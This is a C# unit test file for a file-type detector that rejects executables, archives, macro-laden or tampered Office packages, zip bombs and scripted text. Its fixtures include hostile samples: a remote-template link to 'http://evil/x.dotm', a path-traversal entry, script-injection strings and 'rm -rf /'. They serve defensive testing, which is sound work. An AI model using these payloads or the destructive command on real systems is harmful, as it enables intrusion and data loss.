using System.Text;
using Platform.Documents.FileTypes;
using Platform.TestKit;

namespace Platform.UnitTests.Documents;

/// <summary>What a file is, by its content; the name is believed only of text, which has nothing else to tell it by.</summary>
public sealed class FileTypeTests
{
    public static TheoryData<string, byte[]> Refused => new()
    {
        { "Empty", [] },
        { "Program", [.. "MZ"u8, .. new byte[100]] },
        { "Program", [0x7F, .. "ELF"u8, .. new byte[100]] },
        { "Archive", [.. "Rar!"u8, 1, 2, 3] },
        { "Archive", [0x1F, 0x8B, 8, 0] },
        { "OldOffice", [0xD0, 0xCF, 0x11, 0xE0, 0xA1, 0xB1, 0x1A, 0xE1, 0, 0] },
        { "PictureFormat", [.. "GIF89a"u8, 1, 0] },
        { "PictureFormat", [.. "RIFF"u8, 1, 0, 0, 0, .. "WEBPVP8 "u8] },
        { "PictureFormat", [0, 0, 0, 24, .. "ftypheic"u8] },
        { "PictureFormat", [.. "BM"u8, 1, 2, 3] },
        { "Unknown", [0x1A, 0x45, 0xDF, 0xA3, .. "matroska"u8] },
        { "Unknown", [0, 0, 0, 24, .. "ftypcrx "u8] },
    };

    public static TheoryData<string, byte[]> Told => new()
    {
        { "pdf", SampleFiles.Pdf() },
        { "png", SampleFiles.Png(1, 1) },
        { "jpeg", SampleFiles.Photo },
        { "ogg", [.. "OggS"u8, 0, 2] },
        { "wav", [.. "RIFF"u8, 1, 0, 0, 0, .. "WAVEfmt "u8] },
        { "mp3", [.. "ID3"u8, 4, 0] },
        { "mp3", [0xFF, 0xFB, 0x90, 0x64] },
        { "webm", [0x1A, 0x45, 0xDF, 0xA3, 1, 0, 0, 0, 0, 0, 0, 31, 0x42, 0x82, 0x84, .. "webm"u8] },
        { "mp4", [0, 0, 0, 24, .. "ftypisom"u8, 0, 0] },
        { "m4a", [0, 0, 0, 24, .. "ftypM4A "u8, 0, 0] },
    };

    [Theory]
    [MemberData(nameof(Refused))]
    public void What_is_not_accepted_is_refused_for_what_it_is(string refusal, byte[] content) =>
        Assert.Equal(refusal, RefusalOf(() => FirstBytes.Tell(content, out _)));

    [Theory]
    [MemberData(nameof(Told))]
    public void What_is_accepted_is_told_by_its_first_bytes(string format, byte[] content) =>
        Assert.Equal(format, FirstBytes.Tell(content, out _)!.Code);

    [Fact]
    public void Office_documents_are_told_apart()
    {
        Assert.Equal(FileFormat.Docx, Package(SampleFiles.Docx()));
        Assert.Equal(FileFormat.Xlsx, Package(SampleFiles.Xlsx()));
        Assert.Equal(FileFormat.Odt, Package(SampleFiles.Odt()));
    }

    [Fact]
    public void Macros_are_refused_wherever_they_hide()
    {
        Assert.Equal("Macros", RefusalOf(() => Package(SampleFiles.MacroDocx())));
        Assert.Equal("Macros", RefusalOf(() => Package(SampleFiles.Docx(("word/vbaProject.bin", "x")))));
        Assert.Equal("Macros", RefusalOf(() => Package(SampleFiles.Xlsx(("xl/activeX/activeX1.bin", "x")))));
        Assert.Equal("Macros", RefusalOf(() => Package(SampleFiles.Docx((
            "word/_rels/settings.xml.rels",
            "<Relationships><Relationship Type=\"http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate\" Target=\"http://evil/x.dotm\" TargetMode=\"External\"/></Relationships>")))));
    }

    [Fact]
    public void A_zip_that_is_no_document_is_refused()
    {
        Assert.Equal("Archive", RefusalOf(() => Package(SampleFiles.Zip(("a.txt", "a")))));
        Assert.Equal("Damaged", RefusalOf(() => Package(SampleFiles.Docx(("../../evil.txt", "x")))));
        Assert.Equal("Damaged", RefusalOf(() => Package(SampleFiles.Docx(("word/document.xml", "again")))));
        Assert.Equal("Damaged", RefusalOf(() => Package(SampleFiles.Docx()[..^30])));
        Assert.Equal("Damaged", RefusalOf(() => Package(SampleFiles.Join(SampleFiles.Docx(), Encoding.UTF8.GetBytes("<script>alert(1)</script>")))));
        Assert.Equal("Damaged", RefusalOf(() => Package(SampleFiles.Zip(("[Content_Types].xml", "<!DOCTYPE a [<!ENTITY b \"c\">]><a ContentType=\"&b;\"/>")))));
    }

    [Fact]
    public void A_zip_bomb_is_refused_without_being_unpacked_to_its_end() =>
        Assert.Equal("Bomb", RefusalOf(() => Package(SampleFiles.ZipBomb(420))));

    [Theory]
    [InlineData("a.csv", "code;الوحدة\n1;2\n", "csv")]
    [InlineData("notes.txt", "\uFEFFنص بسيط", "txt")]
    [InlineData("book.brf", ",? is a te/\f", "brf")]
    public void Text_is_told_by_its_name_once_its_content_is_harmless(string name, string content, string format) =>
        Assert.Equal(format, PlainText.Tell(new MemoryStream(Encoding.UTF8.GetBytes(content)), name).Code);

    [Theory]
    [InlineData("drawing.svg", "<svg xmlns=\"http://www.w3.org/2000/svg\"><script>alert(1)</script></svg>", "Script")]
    [InlineData("drawing.txt", "  \n<svg onload=\"alert(1)\"/>", "Script")]
    [InlineData("page.txt", "hello <ScRiPt>alert(1)</script>", "Script")]
    [InlineData("page.html", "<!DOCTYPE html><title>x</title>", "Script")]
    [InlineData("run.txt", "#!/bin/sh\nrm -rf /", "Script")]
    [InlineData("run.bat", "del /q *.*", "Unknown")]
    [InlineData("run.js", "alert(1)", "Unknown")]
    [InlineData("a.txt", "nul\0", "Unknown")]
    public void Text_that_could_run_is_refused(string name, string content, string refusal) =>
        Assert.Equal(refusal, RefusalOf(() => PlainText.Tell(new MemoryStream(Encoding.UTF8.GetBytes(content)), name)));

    [Fact]
    public void Text_in_an_old_encoding_is_refused_with_its_reason() =>
        Assert.Equal("Encoding", RefusalOf(() => PlainText.Tell(new MemoryStream([0xC7, 0xE1, 0xE1, 0xD5]), "a.csv")));

    [Fact]
    public void A_pdf_that_is_cut_off_or_carries_something_behind_it_is_refused()
    {
        Assert.Null(Record.Exception(() => LastBytes.RefuseUnfinishedPdf(new MemoryStream(SampleFiles.Pdf()))));
        Assert.Equal("Damaged", RefusalOf(() => LastBytes.RefuseUnfinishedPdf(new MemoryStream(SampleFiles.Pdf()[..^10]))));
        Assert.Equal("Damaged", RefusalOf(() => LastBytes.RefuseUnfinishedPdf(new MemoryStream(SampleFiles.Join(SampleFiles.Pdf(), [.. "MZ"u8])))));
        Assert.Equal("Damaged", RefusalOf(() => LastBytes.RefuseHiddenArchive(new MemoryStream(SampleFiles.Join(SampleFiles.Pdf(), SampleFiles.Zip(("a", "b")))))));
    }

    private static FileFormat Package(byte[] content)
    {
        using var file = new MemoryStream(content);
        return OfficePackage.Tell(file);
    }

    private static string RefusalOf(Action tell) => Assert.Throws<FileRefusedException>(tell).Refusal.ToString();

    private static string RefusalOf(Func<object?> tell) => Assert.Throws<FileRefusedException>(tell).Refusal.ToString();
}
